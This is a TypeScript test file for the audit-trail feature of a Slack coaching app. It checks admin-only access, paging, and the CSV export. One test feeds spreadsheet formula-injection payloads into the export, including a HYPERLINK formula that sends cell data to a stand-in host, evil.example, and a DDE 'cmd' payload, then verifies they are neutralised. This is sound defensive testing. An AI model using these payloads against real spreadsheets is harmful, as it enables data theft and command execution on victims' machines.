import { parse } from 'csv-parse/sync';
import { startHarness, setTeam, type Harness } from '../helpers/harness';
import { runPrivacyCli } from '../../src/cli/privacy';
import { AUDIT_PAGE_SIZE } from '../../src/domain/audit';
import { TEST_DATA_KEY } from '../helpers/data-key';
import { cliDatabase } from '../helpers/cli-database';

describe('audit trail: /coach audit and its CSV', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await startHarness();
    await setTeam(h, h.people.manager, [h.people.bob]);
  });
  afterEach(async () => {
    expect(h.emulator.violations()).toEqual([]);
    await h.stop();
  });

  async function ask(userId: string, text: string): Promise<string> {
    const before = h.emulator.ephemerals(userId).length;
    await h.driver.command(userId, '/coach', text);
    return JSON.stringify(await h.emulator.waitFor(() => h.emulator.ephemerals(userId)[before]));
  }

  /** Reads through `h.query`, so the trail is checked on SQLite and PostgreSQL alike. */
  const kinds = () => h.query<{ kind: string; actor_id: string; subject_id: string | null }>('SELECT kind, actor_id, subject_id FROM events ORDER BY id');

  it('records each admin or security-relevant action, who did it and on whom, and lists them newest first for admins only', async () => {
    const { admin, alice, manager } = h.people;
    await ask(admin, `level <@${alice}> executive`);
    await h.leadwell.slack.deps.reportingLines.requestReportingLine({ requesterId: admin, personId: alice, managerId: manager, via: 'app_home' });
    await ask(manager, 'report');
    await ask(admin, 'report org');
    await ask(manager, 'report export');
    await ask(admin, 'report pulse every 3');
    await ask(alice, 'nudges off');
    await ask(alice, 'my data');
    // An operator's command line is audited as `cli` (the backup CLI's entry, SQLite-only, is checked in backup-restore).
    const cli = cliDatabase(h);
    try {
      expect(await runPrivacyCli(['export', alice], { ...cli.env, LEADWELL_DATA_KEY: TEST_DATA_KEY }, { out: () => undefined, err: () => undefined }, h.clock)).toBe(0);
    } finally {
      cli.restore();
    }

    const rows = await kinds();
    const has = (kind: string, actor: string, subject?: string | null) => expect(rows).toContainEqual({ kind, actor_id: actor, subject_id: subject === undefined ? null : subject });
    has('level.changed', admin, alice);
    has('org.manager_set', admin, alice);
    has('report.viewed', manager, manager);
    has('report.viewed', admin);
    has('report.exported', manager);
    has('settings.changed', admin);
    has('settings.changed', alice, alice);
    has('privacy.exported', alice, alice);
    has('privacy.exported', 'cli', alice);
    for (const r of rows) expect(JSON.stringify(r)).not.toMatch(/note/i);

    expect(await ask(alice, 'audit')).toContain('Only a Leadwell admin can see the audit trail');
    expect(await ask(manager, 'audit export')).toContain('Only a Leadwell admin');
    const page = await ask(admin, 'audit');
    expect(page).toMatch(/Audit trail: \d+ entries, page 1 of 1/);
    // Newest first: the exports (the last actions) come before the level change (the first) on the page.
    expect(page.indexOf('Personal data exported')).toBeGreaterThan(-1);
    expect(page.indexOf('Personal data exported')).toBeLessThan(page.indexOf('Level set'));
    expect(page).toContain(`<@${alice}>`);
    expect(page).toContain('Reporting line changed');
    expect(await ask(admin, 'audit banana')).toContain('`/coach audit 2` the page before');

    const before = h.emulator.files().length;
    await ask(admin, 'audit export');
    const file = await h.emulator.waitFor(() => h.emulator.files().slice(before).find((f) => f.completed));
    const csv = file.bytes!.toString('utf8');
    expect(csv.split('\n')[0]).toBe('time_utc,action,kind,actor,subject,details');
    expect(csv).toContain('level.changed');
    expect(csv).toContain('audit.viewed'); // looking at the trail is on the trail
    expect((await kinds()).filter((r) => r.kind === 'audit.exported')).toEqual([{ kind: 'audit.exported', actor_id: admin, subject_id: null }]);
  });

  it('the CSV carries every cell as text: a row whose actor or subject starts like a formula cannot run in a spreadsheet', async () => {
    // Rows can come from outside Slack's ids (an operator's `npm run report -- --manager`, a restored backup):
    // the CSV must not trust that no cell starts with = + - @ tab or CR.
    const cells = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', '+1+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3', '\tTAB', '\rCR'];
    for (const c of cells) await h.leadwell.slack.deps.audit.record('report.exported', c, c, { via: 'cli' });
    const before = h.emulator.files().length;
    await ask(h.people.admin, 'audit export');
    const file = await h.emulator.waitFor(() => h.emulator.files().slice(before).find((f) => f.completed));
    const rows = parse(file.bytes!.toString('utf8')) as string[][];
    const hostile = rows.filter((r) => cells.includes(r[3]!.slice(1)));
    expect(hostile.map((r) => [r[3], r[4]]).sort()).toEqual(cells.map((c) => [`'${c}`, `'${c}`]).sort());
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('pages: the second page holds the older entries', async () => {
    for (let i = 0; i < AUDIT_PAGE_SIZE + 3; i += 1) {
      await h.leadwell.slack.deps.audit.record('settings.changed', h.people.admin, undefined, { i });
      h.clock.advance(1000);
    }
    const first = await ask(h.people.admin, 'audit');
    expect(first).toContain('page 1 of 2');
    expect(first).toContain(`i: ${AUDIT_PAGE_SIZE + 2}`);
    const second = await ask(h.people.admin, 'audit 2');
    expect(second).toContain('page 2 of 2');
    expect(second).toContain('i: 0');
    expect(second).not.toContain(`i: ${AUDIT_PAGE_SIZE + 2}`);
  });
});
